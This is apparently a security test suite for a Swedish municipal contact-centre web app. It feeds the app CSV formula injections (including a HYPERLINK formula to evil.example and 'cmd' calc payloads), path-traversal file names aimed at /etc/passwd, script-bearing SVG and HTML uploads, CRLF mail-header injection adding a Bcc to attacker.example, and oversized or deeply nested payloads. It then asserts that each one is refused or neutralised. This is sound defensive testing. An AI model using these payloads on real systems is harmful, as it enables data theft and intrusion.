import { strict as assert } from 'node:assert';
import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Knex } from 'knex';
import type supertest from 'supertest';
import { routeTable } from '../../server/app.js';
import type { AttachmentRow } from '../../server/attachments/store.js';
import type { Config } from '../../server/config.js';
import { MAX_JSON_DEPTH } from '../../server/platform/json-depth.js';
import { signedHeaders } from '../../server/telephony/signature.js';
import { filesUnder, pdfBytes, pngBytes } from '../fixtures/files.js';
import { postMultipart, type UploadFile } from '../fixtures/multipart.js';
import { csrfFrom, newCase, rowCounts, startTestApp, type SignedIn, type TestApp } from '../support/harness.js';
import type { Ack } from '../../server/live/protocol.js';
import { connectLive, cookieHeader, type LiveClient } from '../support/live-client.js';
import { deliver, INTAKE } from '../support/smtp-client.js';
import { startRelay, type Relay } from '../support/smtp-relay.js';
import { parseCsv } from '../support/csv.js';

/**
 * The hostile-input suite, over HTTP, SMTP and the live socket: spreadsheet
 * formulas in CSV exports, header injection into outgoing mail, paths in
 * attachment names, and bodies that are too big or nested too deep. The XSS
 * corpus is checked in Chromium (test/e2e/hostile-input.test.ts).
 */

const PDF = pdfBytes();
const PNG = pngBytes();
const TELEPHONY_SECRET = 'hostile-input-telephony-secret-0123456789';

/** Row counts of every table a refused request could have touched. */
async function allCounts(db: Knex) {
  const extra: Record<string, number> = {};
  for (const table of ['callbacks', 'calls', 'call_events', 'inbound_messages', 'users', 'departments', 'categories']) {
    const row = await db(table).count<{ count: string | number }[]>('* as count').first();
    extra[table] = Number(row?.count ?? 0);
  }
  return { ...(await rowCounts(db)), ...extra };
}


/** A spreadsheet reads these as a formula (after leading blanks), unless the cell is a plain number as we format them. */
const FORMULA = /^[\s\u00a0]*[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[-\u2212]?\d[\d\s\u00a0\u202f.,]*(\s?%)?$/;

/** Sends the contact form as a browser does (multipart, with the CSRF token from the page). */
async function sendForm(t: TestApp, fields: Record<string, string>, files: UploadFile[] = []): Promise<supertest.Response> {
  const client = t.request();
  const page = await client.get('/kontakt').expect(200);
  return postMultipart(
    client,
    '/kontakt',
    {
      _csrf: csrfFrom(page.text),
      category: 'bygglov',
      name: 'Olle Ås',
      email: `olle.${randomBytes(4).toString('hex')}@example.com`,
      phone: '',
      subject: 'Ritningar',
      message: 'Här är filerna.',
      ...fields,
    },
    files,
  );
}

const tokenOf = (res: supertest.Response) => {
  assert.equal(res.status, 303, res.text.slice(0, 2000));
  const m = /^\/kvitto\/([A-Za-z0-9_-]{43})$/.exec(res.headers.location ?? '');
  assert.ok(m, `redirects to the receipt, got ${res.headers.location}`);
  return m[1]!;
};

/** The message of a field's error on a re-rendered form. */
function fieldError(html: string, field: string): string {
  const m = new RegExp(`<p class="field-error" id="f-${field}-error"><span class="visually-hidden">[^<]*</span> ([^<]+)</p>`).exec(html);
  assert.ok(m, `the ${field} field shows an error`);
  return m[1]!;
}

interface RawEngine {
  write(data: string): void;
  on(event: 'packet', fn: (p: { type: string; data?: unknown }) => void): void;
  off(event: 'packet', fn: (p: { type: string; data?: unknown }) => void): void;
}
let rawSeq = 0;

/** Emits an event with its payload as raw JSON text in a Socket.IO packet, and waits for the acknowledgement. */
function rawRequest(client: LiveClient, event: string, payloadJson: string): Promise<Ack> {
  const id = 900_000 + ++rawSeq;
  const engine = (client.socket.io as unknown as { engine: RawEngine }).engine;
  return new Promise((resolve, reject) => {
    const onPacket = (p: { type: string; data?: unknown }) => {
      if (p.type !== 'message' || typeof p.data !== 'string' || !p.data.startsWith(`3${id}[`)) return;
      clearTimeout(timer);
      engine.off('packet', onPacket);
      resolve((JSON.parse(p.data.slice(`3${id}`.length)) as Ack[])[0]!);
    };
    const timer = setTimeout(() => {
      engine.off('packet', onPacket);
      reject(new Error(`no acknowledgement for ${event}`));
    }, 10_000);
    engine.on('packet', onPacket);
    // Engine.IO adds the message type (4); this is the Socket.IO EVENT packet (2) with an ack id.
    engine.write(`2${id}[${JSON.stringify(event)},${payloadJson}]`);
  });
}

describe('hostile input', function () {
  this.timeout(60_000);
  let t: TestApp;
  let admin: SignedIn;

  before(async () => {
    t = await startTestApp({ config: { telephony: { secret: TELEPHONY_SECRET, maxSkewSeconds: 300 } } as Partial<Config> });
    admin = await t.loginAs('admin', 'Admin Hostile');
  });
  after(() => t?.close());

  describe('CSV injection', () => {
    /** Every CSV route and how this suite fills its outside text; a new one fails here until it is added. */
    const CSV_ROUTES = ['/agent/statistik/export.csv', '/agent/atkomstlogg/export.csv'];

    it('knows every CSV export route of the route table', () => {
      const found = routeTable(t.services)
        .filter((r) => /csv/i.test(r.path))
        .map((r) => r.path)
        .sort();
      assert.deepEqual(found, [...CSV_ROUTES].sort(), 'a new CSV export needs its injection test here');
    });

    // Typed through the forms and services (trimmed there), and written straight to the
    // database (a tab, a carriage return or a blank first: an import, an older version).
    const TYPED = ['=HYPERLINK("http://evil.example/?"&A1,"Klicka")', '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)'];
    const STORED = ['\t=1+1', '\r=cmd|\' /C calc\'!A0', '  =1+1', '\u00a0+1+1'];

    it('the statistics export: agent and department names from outside start with an apostrophe, and no cell starts a formula', async () => {
      const names = [...TYPED, ...STORED];
      const users: { id: number; name: string }[] = [];
      const departments: { slug: string; name: string }[] = [];
      for (const [i, name] of names.entries()) {
        const user = await t.services.auth.createUser({ email: `csv${i}.${randomBytes(3).toString('hex')}@test.example`, name: TYPED.includes(name) ? name : `Placeholder ${i}`, role: 'agent', password: 'correct horse battery staple' });
        if (!TYPED.includes(name)) await t.db('users').where({ id: user.id }).update({ name });
        users.push({ id: user.id, name });
        const slug = `csv-${i}-${randomBytes(2).toString('hex')}`;
        // The admin form, as an admin types a department's name.
        await admin.agent
          .post('/admin/departments')
          .type('form')
          .send({ _csrf: admin.csrf, slug, name: TYPED.includes(name) ? name : `Placeholder ${i}`, email: '' })
          .expect(303);
        if (!TYPED.includes(name)) await t.db('departments').where({ slug }).update({ name });
        departments.push({ slug, name });
        const created = await t.request().post('/api/v1/cases').send(newCase({ subject: name.trim() || 'x' })).expect(201);
        await admin.agent.patch(`/api/v1/cases/${created.body.reference}`).set('X-CSRF-Token', admin.csrf).send({ assigneeId: user.id }).expect(200);
        await admin.agent.post(`/api/v1/cases/${created.body.reference}/forward`).set('X-CSRF-Token', admin.csrf).send({ department: slug, note: name }).expect(200);
      }
      for (const table of ['agents', 'departments'] as const) {
        const res = await admin.agent.get('/agent/statistik/export.csv').query({ table }).expect(200);
        assert.match(String(res.headers['content-type']), /^text\/csv/);
        assert.match(String(res.headers['content-disposition']), /^attachment;/);
        const rows = parseCsv(res.text.replace(/^\uFEFF/, ''), false);
        const firstCells = rows.map((r) => r[0]!);
        for (const name of names) {
          assert.ok(firstCells.includes(`'${name}`), `${table}: ${JSON.stringify(name)} is written as ${JSON.stringify(`'${name}`)}; got ${JSON.stringify(firstCells)}`);
        }
        for (const row of rows) {
          for (const cell of row) {
            assert.ok(!FORMULA.test(cell) || PLAIN_NUMBER.test(cell), `${table}: no cell starts a formula: ${JSON.stringify(cell)}`);
          }
        }
      }
    });

    it('the access log export: a staff name and an attachment name from outside start with an apostrophe', async () => {
      const reader = await t.loginAs('agent', '=HYPERLINK("http://evil.example","Öppna")');
      const names = ['=1+1.pdf', '+1+1.pdf', '-1+1.pdf', '@SUM(1+1).pdf'];
      const token = tokenOf(await sendForm(t, {}, names.map((filename) => ({ filename, content: PDF }))));
      const c = await t.db('cases').where({ resident_token: token }).first();
      await reader.agent.get(`/agent/cases/${c.reference}`).expect(200);
      for (const row of await t.db<AttachmentRow>('attachments').where({ case_id: c.id })) await reader.agent.get(`/agent/attachments/${row.public_id}`).expect(200);
      const res = await admin.agent.get('/agent/atkomstlogg/export.csv').expect(200);
      assert.match(String(res.headers['content-type']), /^text\/csv/);
      const rows = parseCsv(res.text.replace(/^\uFEFF/, ''), false);
      const cells = rows.flat();
      assert.ok(cells.includes(`'${reader.user.name}`), `the name is written inert: ${JSON.stringify(cells.filter((x) => x.includes('HYPERLINK')))}`);
      for (const name of names) assert.ok(cells.includes(`'${name}`), `${name} is written inert`);
      for (const cell of cells) assert.ok(!FORMULA.test(cell) || PLAIN_NUMBER.test(cell), `no cell starts a formula: ${JSON.stringify(cell)}`);
    });
  });

  describe('path traversal in attachment names', () => {
    const HOSTILE_NAMES: [string, Buffer, string][] = [
      ['../../etc/passwd.pdf', PDF, 'passwd.pdf'],
      ['..\\..\\windows\\win.ini.pdf', PDF, 'win.ini.pdf'],
      ['/abs/path/ritning.pdf', PDF, 'ritning.pdf'],
      ['%2e%2e%2f%2e%2e%2fetc%2fpasswd.pdf', PDF, '%2e%2e%2f%2e%2e%2fetc%2fpasswd.pdf'],
      ['faktura\u202Etxt.pdf', PDF, 'fakturatxt.pdf'],
      ['CON.pdf', PDF, 'CON.pdf'],
      ['NUL.png', PNG, 'NUL.png'],
      ['rapport";filename=evil.html;.pdf', PDF, 'rapport;filename=evil.html;.pdf'],
      [`${'å'.repeat(250)}😀.png`, PNG, `${'å'.repeat(176)}.png`],
    ];

    async function assertSafeDownload(res: supertest.Response, row: AttachmentRow) {
      const disposition = String(res.headers['content-disposition']);
      assert.match(disposition, /^attachment(;|$)/, `an attachment, never inline: ${disposition}`);
      assert.ok(/^[\x20-\x7e]*$/.test(disposition), `plain ASCII, no line break: ${JSON.stringify(disposition)}`);
      const plain = /filename="((?:[^"\\]|\\.)*)"/.exec(disposition)?.[1] ?? /filename=([^;]+)/.exec(disposition)?.[1];
      assert.ok(plain !== undefined, `a filename: ${disposition}`);
      assert.doesNotMatch(plain, /[/\\]\.\.|^\.\.|[/\\]/, `no path in the plain name: ${plain}`);
      const star = /filename\*=UTF-8''([^;]+)/i.exec(disposition)?.[1];
      if (star) assert.equal(decodeURIComponent(star), row.filename, 'filename* is the stored name');
      else assert.equal(plain, row.filename);
      assert.equal(String(res.headers['content-type']).split(';')[0], row.content_type.split(';')[0]);
      assert.equal(res.headers['x-content-type-options'], 'nosniff');
      assert.match(String(res.headers['content-security-policy']), /sandbox/);
    }

    function assertStoredSafely(row: AttachmentRow) {
      assert.match(row.storage_key, /^\d{4}-\d{2}-\d{2}\/[A-Za-z0-9_-]{20,}$/, `a generated key: ${row.storage_key}`);
      assert.doesNotMatch(row.filename, /[/\\\u0000-\u001f\u007f\u202a-\u202e\u2066-\u2069"]/, `a clean name: ${JSON.stringify(row.filename)}`);
      assert.ok(Array.from(row.filename).length <= 180);
      const onDisk = path.resolve(t.config.uploads.dir, row.storage_key);
      assert.ok(onDisk.startsWith(path.resolve(t.config.uploads.dir) + path.sep), 'inside the attachment folder');
      assert.ok(existsSync(onDisk));
    }

    it('web form uploads are stored under generated keys with clean names, and download with a safe header', async () => {
      const agent = await t.loginAs('agent');
      const rows: AttachmentRow[] = [];
      for (let i = 0; i < HOSTILE_NAMES.length; i += t.config.uploads.maxFiles) {
        const batch = HOSTILE_NAMES.slice(i, i + t.config.uploads.maxFiles);
        const token = tokenOf(await sendForm(t, {}, batch.map(([filename, content]) => ({ filename, content }))));
        const c = await t.db('cases').where({ resident_token: token }).first();
        const stored = await t.db<AttachmentRow>('attachments').where({ case_id: c.id }).orderBy('id');
        assert.deepEqual(
          stored.map((r) => r.filename),
          batch.map(([, , expected]) => expected),
        );
        for (const row of stored) {
          assertStoredSafely(row);
          await assertSafeDownload(await agent.agent.get(`/agent/attachments/${row.public_id}`).expect(200), row);
          await assertSafeDownload(await t.request().get(`/arende/${token}/bilagor/${row.public_id}`).expect(200), row);
        }
        rows.push(...stored);
      }
      // A NUL byte in a part header: the multipart parser cannot read the body, a clear 400 and nothing kept.
      const before = await rowCounts(t.db);
      const nul = await sendForm(t, {}, [{ filename: 'ritning\u0000.pdf', content: PDF }]);
      assert.equal(nul.status, 400, nul.text.slice(0, 200));
      assert.deepEqual(await rowCounts(t.db), before);
      assert.deepEqual(filesUnder(path.join(t.dataDir, 'tmp')), [], 'no temporary file left');
      for (const f of filesUnder(t.dataDir)) assert.ok(f.startsWith(t.dataDir), `nothing written outside the data folder: ${f}`);
      assert.equal(existsSync('/etc/passwd.pdf'), false);
    });

    it('attachment names in e-mail: the same clean names, and HTML or SVG files are not kept', async () => {
      const port = await t.startSmtp();
      const boundary = `b${randomBytes(6).toString('hex')}`;
      const from = `mail.${randomBytes(4).toString('hex')}@example.com`;
      const part = (disposition: string, type: string, content: Buffer) =>
        [`--${boundary}`, `Content-Type: ${type}`, `Content-Disposition: ${disposition}`, 'Content-Transfer-Encoding: base64', '', content.toString('base64'), ''].join('\r\n');
      const raw = [
        `From: Mail Avsändare <${from}>`,
        `To: ${INTAKE}`,
        'Subject: Bilagor med konstiga namn',
        'Date: Sat, 28 Nov 2026 10:00:00 +0100',
        `Message-ID: <${randomBytes(8).toString('hex')}@mail.example.com>`,
        'MIME-Version: 1.0',
        `Content-Type: multipart/mixed; boundary="${boundary}"`,
        '',
        `--${boundary}`,
        'Content-Type: text/plain; charset=utf-8',
        '',
        'Se bilagorna.',
        '',
        part('attachment; filename="../../etc/passwd.pdf"', 'application/pdf', PDF),
        part('attachment; filename="..\\\\..\\\\win.ini.pdf"', 'application/pdf', PDF),
        part("attachment; filename*=UTF-8''faktura%E2%80%AEtxt.pdf", 'application/pdf', PDF),
        part("attachment; filename*=UTF-8''%2Fabs%2Fpath%2Fbild.png", 'image/png', PNG),
        part("attachment; filename*=UTF-8''ritning%00.exe.pdf", 'application/pdf', PDF),
        part('attachment; filename="bild.svg"', 'image/svg+xml', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>')),
        part('attachment; filename="sida.html"', 'text/html', Buffer.from('<script>alert(1)</script>')),
        `--${boundary}--`,
        '',
      ].join('\r\n');
      const r = await deliver(port, raw, { from, to: [INTAKE] });
      assert.equal(r.code, 250, r.response);
      await t.intakeIdle();
      const resident = await t.db('residents').where({ email: from }).first();
      assert.ok(resident, 'the mail became a case');
      const c = await t.db('cases').where({ resident_id: resident.id }).first();
      const stored = await t.db<AttachmentRow>('attachments').where({ case_id: c.id }).orderBy('id');
      assert.equal(stored.length, 5, JSON.stringify(stored.map((s) => s.filename)));
      const [passwd, ini, faktura, bild, nul] = stored.map((s) => s.filename);
      assert.deepEqual([passwd, ini, bild], ['passwd.pdf', 'win.ini.pdf', 'bild.png']);
      assert.match(faktura!, /^faktura[._]?txt\.pdf$/, 'no right-to-left override');
      assert.match(nul!, /^ritning[._]?\.exe\.pdf$/, 'no NUL byte');
      for (const row of stored) assertStoredSafely(row);
      assert.ok(!stored.some((s) => /html|svg/.test(s.content_type)), 'no HTML or SVG kept');
      const agent = await t.loginAs('agent');
      for (const row of stored) await assertSafeDownload(await agent.agent.get(`/agent/attachments/${row.public_id}`).expect(200), row);
    });

    it('URLs with dots or encoded slashes reach no file', async () => {
      const agent = await t.loginAs('agent');
      const row = await t.db<AttachmentRow>('attachments').orderBy('id').first();
      assert.ok(row);
      const c = await t.db('cases').where({ id: row.case_id }).first();
      const urls = [
        '/agent/attachments/../../package.json',
        '/agent/attachments/..%2F..%2Fpackage.json',
        '/agent/attachments/%2e%2e%2f%2e%2e%2fpackage.json',
        '/agent/attachments/..%5C..%5Cpackage.json',
        `/agent/attachments/${encodeURIComponent(row.storage_key)}`,
        `/agent/attachments/${encodeURIComponent(`../attachments/${row.storage_key}`)}`,
        `/agent/attachments/${row.public_id}%00.pdf`,
        `/agent/attachments/${row.public_id}/..%2F..%2F..%2Fetc%2Fpasswd`,
        `/arende/${c.resident_token}/bilagor/..%2F..%2Fpackage.json`,
        `/arende/${c.resident_token}/bilagor/${encodeURIComponent(row.storage_key)}`,
        '/static/..%2F..%2Fpackage.json',
        '/static/%2e%2e/%2e%2e/package.json',
        '/static/../server/config.ts',
      ];
      const secrets = [readFileSync('package.json', 'utf8').slice(0, 40), 'root:x:0:0', 'loadConfig'];
      for (const url of urls) {
        const res = await agent.agent.get(url);
        assert.ok([400, 403, 404].includes(res.status), `${url}: ${res.status}`);
        assert.equal(res.headers['content-disposition'], undefined, url);
        for (const s of secrets) assert.ok(!res.text.includes(s), `${url} shows no file`);
      }
    });
  });

  describe('oversized and deeply nested input', () => {
    const deepArray = (n: number) => '['.repeat(n) + ']'.repeat(n);
    const deepObject = (n: number) => '{"a":'.repeat(n) + '1' + '}'.repeat(n);
    const withExtra = (body: Record<string, unknown>, nested: string) => JSON.stringify(body).replace(/}$/, `,"extra":${nested}}`);

    let reference: string;
    before(async () => {
      reference = (await t.request().post('/api/v1/cases').send(newCase()).expect(201)).body.reference;
    });

    /** The JSON routes that take a body, each as a client would call it. */
    function jsonRoutes(): { label: string; send(body: string): supertest.Test }[] {
      const session = (method: 'post' | 'patch', url: string) => (body: string) => admin.agent[method](url).set('X-CSRF-Token', admin.csrf).set('Content-Type', 'application/json').send(body);
      return [
        { label: 'POST /api/v1/cases', send: (body) => t.request().post('/api/v1/cases').set('Content-Type', 'application/json').send(body) },
        { label: 'POST notes', send: session('post', `/api/v1/cases/${reference}/notes`) },
        { label: 'POST replies', send: session('post', `/api/v1/cases/${reference}/replies`) },
        { label: 'POST forward', send: session('post', `/api/v1/cases/${reference}/forward`) },
        { label: 'PATCH case', send: session('patch', `/api/v1/cases/${reference}`) },
        { label: 'POST /api/v1/callbacks', send: (body) => t.request().post('/api/v1/callbacks').set('Content-Type', 'application/json').send(body) },
        { label: 'POST /api/v1/contacts', send: session('post', '/api/v1/contacts') },
        {
          label: 'POST /api/v1/telephony/events (signed)',
          send: (body) => t.request().post('/api/v1/telephony/events').set(signedHeaders(TELEPHONY_SECRET, body)).set('Content-Type', 'application/json').send(body),
        },
      ];
    }

    it(`a JSON body nested 10 000 levels deep → 400 json_too_deep on every JSON route, nothing written`, async () => {
      const before = await allCounts(t.db);
      const bodies = [
        ['arrays', deepArray(10_000)],
        ['objects', deepObject(10_000)],
        ['arrays under a valid body', withExtra(newCase(), deepArray(10_000))],
        ['objects under a valid body', withExtra({ body: 'Hej', note: 'x', department: 'bygg' }, deepObject(10_000))],
        ['one level over the limit', withExtra(newCase(), deepArray(MAX_JSON_DEPTH))],
      ] as const;
      for (const route of jsonRoutes()) {
        for (const [what, body] of bodies) {
          const res = await route.send(body);
          assert.equal(res.status, 400, `${route.label}, ${what}: ${res.status} ${res.text.slice(0, 200)}`);
          assert.equal(res.body.error, 'json_too_deep', `${route.label}, ${what}`);
          assert.match(res.body.message, /nested too deeply/);
        }
      }
      assert.deepEqual(await allCounts(t.db), before);
      // Nesting a body of ours can have is fine.
      await t.request().post('/api/v1/cases').send(withExtra(newCase(), deepArray(MAX_JSON_DEPTH - 2))).set('Content-Type', 'application/json').expect(201);
    });

    it('a JSON body over the limit → 413 payload_too_large; a long subject within it → 400 naming the field', async () => {
      const before = await allCounts(t.db);
      const big = await t.request().post('/api/v1/cases').send(newCase({ subject: 'x'.repeat(1024 * 1024) }));
      assert.equal(big.status, 413);
      assert.equal(big.body.error, 'payload_too_large');
      const note = await admin.agent.post(`/api/v1/cases/${reference}/notes`).set('X-CSRF-Token', admin.csrf).send({ body: 'x'.repeat(300 * 1024) });
      assert.equal(note.status, 413);
      assert.equal(note.body.error, 'payload_too_large');
      const long = await t.request().post('/api/v1/cases').send(newCase({ subject: 'x'.repeat(150 * 1024) }));
      assert.equal(long.status, 400);
      assert.deepEqual(Object.keys(long.body.fields), ['subject']);
      assert.equal(long.body.errors[0].code, 'errors.too_long');
      assert.deepEqual(await allCounts(t.db), before);
    });

    it('the contact form: a 1 MB subject → 400 with the subject field’s error; too many fields → 413; nothing written', async () => {
      const before = await allCounts(t.db);
      const res = await sendForm(t, { subject: 'x'.repeat(1024 * 1024), name: 'Kvar Namn' });
      assert.equal(res.status, 400);
      assert.match(fieldError(res.text, 'subject'), /200/);
      assert.ok(!res.text.includes('id="f-attachments-error"'), 'not blamed on the files');
      assert.ok(res.text.includes('value="Kvar Namn"'), 'the form keeps what was written');
      // A field without a limit of its own (the phone) over the multipart cap is that field's error too.
      const phone = await sendForm(t, { phone: '0'.repeat(300 * 1024), name: 'Kvar Namn' });
      assert.equal(phone.status, 400);
      assert.match(fieldError(phone.text, 'phone'), /204800/);
      assert.ok(!phone.text.includes('id="f-attachments-error"'), 'not blamed on the files');

      const many = Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`f${i}`, 'x']));
      const multipart = await sendForm(t, many);
      assert.equal(multipart.status, 413, multipart.text.slice(0, 300));
      const client = t.request();
      const page = await client.get('/kontakt').expect(200);
      const urlencoded = await client.post('/kontakt').type('form').send({ _csrf: csrfFrom(page.text), ...many });
      assert.equal(urlencoded.status, 413);
      const api = await client.post('/api/v1/cases').type('form').send(many);
      assert.equal(api.status, 413);
      assert.deepEqual(await allCounts(t.db), before);
      assert.deepEqual(filesUnder(path.join(t.dataDir, 'tmp')), [], 'no temporary file left');
    });

    it('a URL over 8 KB gets a 4xx (or the page that ignores it), never a 5xx', async () => {
      const long = 'x'.repeat(9 * 1024);
      const cases: [supertest.Agent, string, number[]][] = [
        [admin.agent, `/agent/cases/${long}`, [404]],
        [admin.agent, `/api/v1/cases/${long}`, [404]],
        [admin.agent, `/agent?status=${long}`, [400]],
        [t.request(), `/arende/${long}`, [404]],
        [t.request(), `/kontakt?amne=${long}`, [200]],
        [t.request(), `/fragor/sok?q=${long}`, [200, 400]],
        [t.request(), `/${long}`, [404]],
        // Over Node's header limit: refused before the app sees it.
        [t.request(), `/kontakt?amne=${'x'.repeat(20 * 1024)}`, [431]],
      ];
      for (const [client, url, statuses] of cases) {
        const res = await client.get(url);
        assert.ok(statuses.includes(res.status), `${url.slice(0, 40)}… (${url.length} chars): ${res.status}`);
      }
      await t.request().get('/healthz').expect(200);
      await t.request().post('/api/v1/cases').send(newCase()).expect(201);
    });

    it('socket events with huge or deeply nested payloads get an error acknowledgement, and the connection stays healthy', async () => {
      const baseUrl = await t.listen();
      const agent = await t.loginAs('agent');
      const client = await connectLive(baseUrl, { cookie: cookieHeader(agent.agent as never, baseUrl) });
      try {
        const before = await allCounts(t.db);
        // Written as raw packets: socket.io-client itself cannot encode a value this deep (it walks it recursively).
        const attempts: [string, string][] = [
          ['subscribe', deepArray(10_000)],
          ['subscribe', deepObject(5_000)],
          ['subscribe', `{"since":0,"queue":true,"case":${deepArray(1_500)}}`],
          ['typing', deepObject(600)],
          ['presence', `{"status":"busy","extra":${deepArray(1_500)}}`],
          ['subscribe', JSON.stringify({ since: 0, queue: true, padding: 'å'.repeat(20_000) })],
        ];
        for (const [event, payload] of attempts) {
          const ack = await rawRequest(client, event, payload);
          assert.equal(ack.ok, false, event);
          if (!ack.ok) assert.ok(['invalid', 'too_large'].includes(ack.error), `${event}: ${ack.error} ${ack.message}`);
          assert.equal(client.socket.connected, true, `still connected after ${event}`);
        }
        const ok = await client.request('subscribe', { since: 0, queue: true });
        assert.equal(ok.ok, true, JSON.stringify(ok));
        assert.deepEqual(await allCounts(t.db), before);
      } finally {
        client.close();
      }
      await t.request().get('/healthz').expect(200);
    });
  });
});

describe('hostile input: mail header injection', function () {
  this.timeout(60_000);
  let relay: Relay;
  let t: TestApp;
  const EVIL = 'evil@attacker.example';
  const INJECT = `\r\nBcc: ${EVIL}\r\nX-Injected: yes`;

  before(async () => {
    relay = await startRelay();
    const from = 'Kontaktcenter Borlänge kommun <kontaktcenter@borlange.example>';
    t = await startTestApp({ config: { mail: { smtpUrl: relay.url, from, outboxDir: path.join(tmpdir(), 'sc-unused-outbox'), pollMs: 50, maxAttempts: 3 } } });
  });
  after(async () => {
    await t?.close();
    await relay?.close();
  });

  /** What the relay received has one recipient, the expected one, and no injected header. */
  function assertClean(expected: Map<string, number>) {
    for (const m of relay.messages) {
      assert.equal(m.to.length, 1, `one recipient: ${m.to.join(', ')}`);
      assert.ok(!m.to.includes(EVIL) && m.from !== EVIL);
      const head = m.raw.toString('latin1').split(/\r?\n\r?\n/)[0]!;
      for (const line of head.split(/\r?\n/)) {
        assert.doesNotMatch(line, /^(bcc|cc|x-injected|reply-to|to)\s*:.*attacker/i, `an injected header: ${line}`);
        assert.doesNotMatch(line, /^(bcc|x-injected)\s*:/i, `an injected header: ${line}`);
      }
      assert.ok(!m.mail.headers.has('bcc') && !m.mail.headers.has('x-injected'));
    }
    for (const [address, count] of expected) {
      assert.equal(relay.messages.filter((m) => m.to[0] === address).length, count, `${count} mail(s) to ${address}`);
    }
    assert.equal(relay.messages.filter((m) => m.to.includes(EVIL)).length, 0);
  }

  it('the contact form refuses an e-mail address with a line break, with the field’s error, writing nothing', async () => {
    const before = await rowCounts(t.db);
    for (const email of [`sara@example.com${INJECT}`, `sara@example.com\nBcc: ${EVIL}`, `sara@example.com\r\n`.repeat(2) + 'x']) {
      const res = await sendForm(t, { email, name: 'Sara Kvar' });
      assert.equal(res.status, 400);
      assert.match(fieldError(res.text, 'email'), /e-post/i);
      assert.ok(res.text.includes('value="Sara Kvar"'));
    }
    const api = await t.request().post('/api/v1/cases').send(newCase({ email: `sara@example.com${INJECT}` }));
    assert.equal(api.status, 400);
    assert.ok(api.body.fields.email);
    const callback = await t.request().post('/api/v1/callbacks').send({ name: 'Sara', phone: '0701234567', email: `sara@example.com${INJECT}`, category: 'bygglov', slot: 'x' });
    assert.equal(callback.status, 400);
    assert.ok(callback.body.fields.email);
    assert.deepEqual(await rowCounts(t.db), before);
  });

  it('a name and subject with CR/LF from the form, from mail, and in a forward note and an agent’s name add no header and no recipient', async () => {
    const formEmail = `form.${randomBytes(3).toString('hex')}@example.com`;
    const formToken = tokenOf(await sendForm(t, { email: formEmail, name: `Sara${INJECT}`, subject: `Hej${INJECT}` }));
    const formCase = await t.db('cases').where({ resident_token: formToken }).first();

    const port = await t.startSmtp();
    const mailFrom = `mail.${randomBytes(3).toString('hex')}@example.com`;
    const encoded = (s: string) => `=?UTF-8?B?${Buffer.from(s, 'utf8').toString('base64')}?=`;
    const raw = [
      `From: ${encoded(`Eva${INJECT}`)} <${mailFrom}>`,
      `To: ${INTAKE}`,
      `Subject: ${encoded(`Fråga${INJECT}`)}`,
      'Date: Sat, 28 Nov 2026 10:00:00 +0100',
      `Message-ID: <${randomBytes(8).toString('hex')}@mail.example.com>`,
      'MIME-Version: 1.0',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: 8bit',
      '',
      `Hej!${INJECT}`,
      '',
    ].join('\r\n');
    assert.equal((await deliver(port, raw, { from: mailFrom, to: [INTAKE] })).code, 250);
    await t.intakeIdle();
    const mailResident = await t.db('residents').where({ email: mailFrom }).first();
    assert.ok(mailResident, 'the mail became a case');
    const mailCase = await t.db('cases').where({ resident_id: mailResident.id }).first();

    const admin = await t.loginAs('admin');
    const deptEmail = `bygg.${randomBytes(3).toString('hex')}@borlange.example`;
    const slug = `bygg-${randomBytes(2).toString('hex')}`;
    await admin.agent.post('/admin/departments').type('form').send({ _csrf: admin.csrf, slug, name: `Bygg${INJECT}`, email: deptEmail }).expect(303);
    const badDept = await admin.agent.post('/admin/departments').type('form').send({ _csrf: admin.csrf, slug: `${slug}-x`, name: 'Bygg', email: `${deptEmail}${INJECT}` });
    assert.equal(badDept.status, 400, 'a department address with a line break is refused');
    const agent = await t.loginAs('agent', `Agent${INJECT}`);
    for (const c of [formCase, mailCase]) {
      await agent.agent.post(`/api/v1/cases/${c.reference}/replies`).set('X-CSRF-Token', agent.csrf).send({ body: `Svar${INJECT}` }).expect(201);
      await agent.agent.post(`/api/v1/cases/${c.reference}/forward`).set('X-CSRF-Token', agent.csrf).send({ department: slug, note: `Ta över${INJECT}` }).expect(200);
    }
    await t.mailIdle();

    const outbox = await t.db('mail_outbox').whereIn('case_id', [formCase.id, mailCase.id]).select('to_address', 'subject', 'status');
    assert.ok(outbox.length >= 6, `acknowledgements, replies and handovers queued (${outbox.length})`);
    for (const row of outbox) {
      assert.doesNotMatch(row.to_address, /[\r\n\s,;]|attacker/, row.to_address);
      assert.doesNotMatch(row.subject, /[\r\n]/, row.subject);
      assert.equal(row.status, 'sent');
    }
    assertClean(
      new Map([
        [formEmail, 2],
        [mailFrom, 2],
        [deptEmail, 2],
      ]),
    );
    const ack = relay.messages.find((m) => m.to[0] === formEmail)!;
    assert.match(ack.mail.header('subject') ?? '', /^[^\r\n]+$/, 'the subject is one line');
  });
});
